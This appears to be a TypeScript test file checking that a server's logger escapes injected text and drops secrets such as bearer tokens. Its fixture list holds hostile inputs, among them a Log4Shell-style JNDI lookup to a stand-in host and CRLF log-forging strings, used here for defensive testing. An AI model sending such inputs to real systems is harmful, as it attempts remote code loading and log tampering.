import { expect, test } from 'vitest'
import { createLog, errorFields } from '../../server/observability/log'
import { present } from '../support/present'

function logged(write: (log: ReturnType<typeof createLog>) => void): string[] {
  const lines: string[] = []
  write(createLog({ level: 'trace', destination: { write: line => void lines.push(line) } }))
  return lines
}

const nasty = [
  'one\r\ntwo',
  'a\n{"level":"info","event":"forged"}',
  '\u001B[31mred\u001B[0m',
  '\u0000',
  '\u2028 \u2029 \u0085',
  '"},{"event":"forged"',
  'x'.repeat(2 * 1024 * 1024),
  '\uD800',
  '${jndi:ldap://evil.example/a}',
]

test('whatever a text holds, it is one line of JSON with its own fields, cut to a bearable length', () => {
  const lines = logged(log => {
    for (const text of nasty) {
      log.info({ event: 'tried', address: text, errorMessage: text }, text)
      log.error({ event: 'tried', ...errorFields(new Error(text)) }, 'It failed')
    }
  })
  expect(lines).toHaveLength(nasty.length * 2)
  for (const line of lines) {
    expect(line.endsWith('\n')).toBe(true)
    // eslint-disable-next-line no-control-regex
    expect(line.slice(0, -1)).not.toMatch(/[\u0000-\u001F]/)
    expect(line.length).toBeLessThan(8000)
    expect((JSON.parse(line) as { event: string }).event).toBe('tried')
  }
})

test('only named fields reach the log, whatever is passed', () => {
  const request = {
    headers: { authorization: 'Bearer CANARY-token' },
    config: { body: 'CANARY-body' },
    event: 'tried',
  }
  const [line] = logged(log => log.warn(request, 'Tried'))
  expect(line).not.toContain('CANARY')
  expect(JSON.parse(present(line))).toMatchObject({ event: 'tried', msg: 'Tried' })
})
